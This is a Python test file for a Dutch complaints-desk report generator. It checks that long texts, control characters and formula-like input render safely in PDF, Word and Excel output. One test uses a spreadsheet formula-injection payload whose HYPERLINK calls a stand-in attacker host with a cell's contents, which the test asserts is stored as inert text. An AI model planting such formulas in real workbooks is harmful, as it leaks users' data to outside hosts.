"""What the register lets in renders: the longest texts the validators allow, control
characters and lone surrogates, and texts that look like spreadsheet formulas."""

from __future__ import annotations

import io
from datetime import date

import pytest
from docx import Document
from openpyxl import load_workbook
from pypdf import PdfReader

from klachtdesk.letters.cell_text import clean_text, has_forbidden_characters
from klachtdesk.letters.report import report_docx, report_pdf, report_xlsx
from klachtdesk.letters.report_model import ChartKind, Report, ReportSection, ReportTable
from klachtdesk.procedure.improvements import DESCRIPTION_MAX
from klachtdesk.procedure.periods import Period

from .report_sample import LETTERHEAD

#: A department name as long as an imported sheet may hand one in.
LONG_NAME = 6_000


def _words(count: int, word: str = "verbetering") -> str:
    text = " ".join([word] * (count // (len(word) + 1) + 1))
    return text[:count]


def _report(description: str, department: str, *, rows: int = 1) -> Report:
    actions = ReportTable(
        key="actions",
        title="Verbeteracties",
        headers=("Verbeteractie", "Dienst", "Stand", "Gestart", "Streefdatum", "Uitgevoerd"),
        rows=tuple(
            (description, department, "gepland", "3/2/2026", None, None) for _ in range(rows)
        ),
    )
    by_department = ReportTable(
        key="departments",
        title="Per dienst",
        headers=("Dienst", "Klachten"),
        rows=((department, 12), ("Burgerzaken", 3)),
        total=("Totaal", 15),
        chart=ChartKind.BAR,
    )
    pie = ReportTable(
        key="pie",
        title="Per dienst (taart)",
        headers=("Dienst", "Klachten"),
        rows=((department, 12), ("Burgerzaken", 3)),
        chart=ChartKind.PIE,
    )
    return Report(
        title="Jaarverslag klachtenbehandeling 2026",
        organisation="Gemeente Zottegem",
        period=Period.year(2026),
        made_on=date(2027, 2, 14),
        sections=(
            ReportSection("Verbeteracties", tables=(actions,)),
            ReportSection("Diensten", tables=(by_department, pie)),
        ),
    )


def _pdf_text(pdf: bytes) -> str:
    return " ".join(p.extract_text() for p in PdfReader(io.BytesIO(pdf)).pages)


@pytest.mark.parametrize("unbroken", [False, True], ids=["words", "one-word"])
def test_the_longest_description_and_department_render_in_all_formats(unbroken: bool) -> None:
    description = ("x" * DESCRIPTION_MAX) if unbroken else _words(DESCRIPTION_MAX)
    department = ("D" * LONG_NAME) if unbroken else _words(LONG_NAME, "afdeling")
    report = _report(description, department, rows=3)
    pdf = report_pdf(report, LETTERHEAD)
    pages = PdfReader(io.BytesIO(pdf)).pages
    assert len(pages) >= 2
    text = _pdf_text(pdf)
    # The PDF has every character: long cells continue over lines and pages (their columns'
    # lines interleave in the extracted text, so the words are counted).
    word = "x" if unbroken else "verbetering"
    assert text.count(word) >= 3 * description.count(word)
    word = "D" if unbroken else "afdeling"
    assert text.count(word) >= 3 * department.count(word)
    document = Document(io.BytesIO(report_docx(report)))
    assert document.tables[0].cell(1, 0).text == description
    assert document.tables[0].cell(1, 1).text == department
    sheet = load_workbook(io.BytesIO(report_xlsx(report)))["Verbeteracties"]
    assert sheet["A4"].value == description
    assert sheet["B4"].value == department


HOSTILE = "Dienst\x1b[31m rood\x07 bel\x00 nul \ud800 half"


def test_control_characters_and_lone_surrogates_render_in_all_formats() -> None:
    report = _report(HOSTILE, HOSTILE)
    shown = clean_text(HOSTILE)
    assert shown == "Dienst[31m rood bel nul \ufffd half"
    assert "rood bel nul" in _pdf_text(report_pdf(report, LETTERHEAD))
    document = Document(io.BytesIO(report_docx(report)))
    assert document.tables[0].cell(1, 0).text == shown
    book = load_workbook(io.BytesIO(report_xlsx(report)))
    assert book["Verbeteracties"]["B4"].value == shown
    assert book["Per dienst"]["A4"].value == shown


def test_clean_text_keeps_tabs_and_line_breaks() -> None:
    assert clean_text("a\tb\nc\r\nd") == "a\tb\nc\r\nd"
    assert not has_forbidden_characters("a\tb\nc\r\nd é €")
    assert has_forbidden_characters("a\x1bb")
    assert has_forbidden_characters("a\udc80b")


def test_a_formula_in_the_report_workbook_stays_text() -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
    book = load_workbook(io.BytesIO(report_xlsx(_report(formula, "=1+1"))))
    actions = book["Verbeteracties"]
    assert actions["A4"].value == formula
    assert actions["A4"].data_type == "s"
    assert actions["B4"].data_type == "s"
    departments = book["Per dienst"]
    assert departments["A4"].value == "=1+1"
    assert departments["A4"].data_type == "s"
